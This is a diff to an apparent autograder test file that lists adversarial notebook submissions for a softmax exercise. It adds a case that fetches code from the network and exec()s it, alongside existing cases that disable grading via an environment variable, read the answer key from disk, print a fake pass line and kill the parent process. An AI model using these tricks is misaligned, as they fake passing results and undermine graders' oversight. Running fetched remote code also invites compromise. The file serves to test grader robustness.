@@ -17,7 +17,8 @@ LAB = "03_softmax"
 STUB = 'def my_softmax(z):\n    raise NotImplementedError("my_softmax is not written yet")\n'
 # Attacks confined to the attacked function must leave the other exercise's grade as it was.
 CONFINED = {"the kernel exited", "the kernel's parent killed", "an endless loop", "visible cases hard-coded",
-            "the instructor's package borrowed", "the answer key read from disk", "a fake pass line printed"}
+            "the instructor's package borrowed", "the answer key read from disk", "a fake pass line printed",
+            "the answer fetched from the network"}
 
 ATTACKS = {
     "grading switch flipped": "import os\nos.environ['NBGRADER_EXECUTION'] = 'no'\n" + STUB,
@@ -37,6 +38,10 @@ ATTACKS = {
         f"import glob, json\nkeys = glob.glob({str(ROOT)!r} + '/**/03_softmax.ipynb', recursive=True)\n"
         "source = ''.join(json.load(open(keys[0]))['cells'][0]['source']) if keys else ''\n" + STUB),
     "a fake pass line printed": "print('✅ my_softmax: all 7 checks passed.')\n" + STUB,
+    "the answer fetched from the network": (
+        "import urllib.request\n"
+        "try:\n    exec(urllib.request.urlopen('https://pypi.org/simple/', timeout=5).read())\n"
+        "except Exception:\n    pass\n" + STUB),
     "the kernel exited": "import os\ndef my_softmax(z):\n    os._exit(0)\n",
     "the kernel's parent killed": "import os, signal\ndef my_softmax(z):\n    os.kill(os.getppid(), signal.SIGKILL)\n",
     "an endless loop": "def my_softmax(z):\n    while True:\n        pass\n",
